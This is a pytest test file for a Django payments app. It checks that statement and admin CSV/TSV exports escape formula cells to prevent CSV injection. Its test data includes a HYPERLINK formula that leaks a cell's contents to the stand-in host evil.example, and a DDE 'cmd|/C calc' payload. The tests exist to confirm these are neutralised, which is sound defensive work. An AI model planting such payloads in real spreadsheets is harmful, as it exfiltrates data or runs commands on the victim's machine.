"""Every spreadsheet the project writes escapes cells a spreadsheet program would run as a
formula (OWASP CSV injection): statements and every admin export."""

import csv
import io
import re

import pytest
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.utils import timezone

from apps.accounts import services as accounts_services
from apps.core.exports import EXPORT_FORMATS, _Escaping, spreadsheet_safe
from apps.core.money import Money
from apps.kyc.tests.factories import watchlist_entry
from apps.payments.tests.factories import committed, customer
from apps.wallets import services as wallet_services

pytestmark = pytest.mark.django_db

NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1-2", "'+1-2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\uff1dcmd", "'\uff1dcmd"),
        ("-1050", "-1050"),
        ("+12.5", "+12.5"),
        ("lunch", "lunch"),
        ("a=b", "a=b"),
        (-1050, -1050),
        (None, None),
    ],
)
def test_spreadsheet_safe_escapes_formulas_and_keeps_numbers(cell, written):
    assert spreadsheet_safe(cell) == written


def _transfer_with_note():
    sender, sender_wallet = committed(customer, "sender@example.com", funds=10_000)
    recipient, recipient_wallet = committed(customer, "recipient@example.com", funds=0)
    committed(
        wallet_services.transfer_create,
        source_wallet_id=sender_wallet,
        destination=str(recipient_wallet),
        amount=Money(1_050, "EUR"),
        requested_by_id=sender.pk,
        idempotency_key="note-1",
        note=NOTE,
    )
    return sender, sender_wallet, recipient, recipient_wallet


def test_a_senders_formula_note_reaches_the_recipients_statement_escaped(auth_client):
    sender, sender_wallet, recipient, recipient_wallet = _transfer_with_note()
    month = timezone.now().strftime("%Y-%m")
    for user, wallet, amount in (
        (recipient, recipient_wallet, "1050"),
        (sender, sender_wallet, "-1050"),
    ):
        response = auth_client(user).get(
            f"/api/v1/reports/statements?wallet={wallet}&month={month}&format=csv"
        )
        assert response.status_code == 200, response.content
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        (line,) = [row for row in rows if NOTE in row[3]]
        assert line[3] == "'" + NOTE
        assert line[4] == amount  # amounts stay numbers, negative ones too
        assert not any(cell.startswith("=") for row in rows for cell in row)


def _export(client, path, fmt):
    page = client.get(path)
    assert page.status_code == 200
    html = page.content.decode()
    fields = re.findall(r'type="checkbox" name="([^"]+)"', html) + re.findall(
        r'name="([^"]+)"[^>]*type="checkbox"', html
    )
    index = [f.__name__ for f in EXPORT_FORMATS].index(fmt)
    data = {"format": str(index), "resource": "0", **{name: "on" for name in fields}}
    response = client.post(path, data)
    assert response.status_code == 200, response.content[:500]
    return response


@pytest.fixture
def ops_client(client, otp_login):
    ops = get_user_model().objects.get(
        pk=accounts_services.staff_user_create(
            email="ops@finstack.test", role="superuser", password="pw"
        )
    )
    return otp_login(client, ops)


def test_admin_transaction_export_escapes_the_note_in_csv_and_tsv(ops_client):
    _transfer_with_note()
    response = _export(ops_client, "/admin/ledger/transaction/export/", "CSV")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert [cell for row in rows for cell in row if NOTE in cell] == ["'" + NOTE]

    response = _export(ops_client, "/admin/ledger/transaction/export/", "TSV")
    rows = list(csv.reader(io.StringIO(response.content.decode()), delimiter="\t"))
    assert [cell for row in rows for cell in row if NOTE in cell] == ["'" + NOTE]


def test_admin_watch_list_export_escapes_names_from_outside(ops_client):
    watchlist_entry("@SUM(1+1)*cmd|' /C calc'!A0", list_name="=list")
    response = _export(ops_client, "/admin/kyc/watchlistentry/export/", "CSV")
    text = response.content.decode()
    assert "'@SUM(1+1)*cmd" in text
    assert "'=list" in text
    assert not re.search(r"(^|,)[=@]", text, re.MULTILINE)


def test_every_admin_export_offers_only_escaping_formats():
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_formats")
    ]
    assert len(exporting) >= 6
    for model_admin in exporting:
        formats = model_admin.get_export_formats()
        assert formats, type(model_admin).__name__
        assert all(issubclass(fmt, _Escaping) for fmt in formats), type(model_admin).__name__
